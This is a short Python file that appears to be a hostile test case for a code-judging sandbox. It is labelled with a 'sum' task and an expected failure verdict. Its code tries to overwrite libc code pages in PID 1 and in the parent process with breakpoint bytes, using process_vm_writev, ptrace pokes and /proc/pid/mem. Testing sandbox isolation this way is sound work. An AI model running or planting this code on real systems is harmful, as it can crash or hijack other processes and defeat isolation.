#: tries: writes into the memory of process 1 through every interface for it
#: task: sum
#: verdict: wrong_answer runtime_error
#: harms: writes into the memory of other processes

import ctypes
import os


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
poison = ctypes.create_string_buffer(b"\xcc" * 4096, 4096)
code = ctypes.cast(libc.write, ctypes.c_void_p).value & ~0xFFF
for pid in (1, os.getppid()):
    here, there = Part(ctypes.addressof(poison), 4096), Part(code, 4096)
    libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    for request in (16, 0x4206, 5, 4):
        libc.ptrace(request, pid, ctypes.c_void_p(code), ctypes.c_void_p(0xCCCC))
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(code)
            memory.write(poison.raw)
    except OSError:
        pass
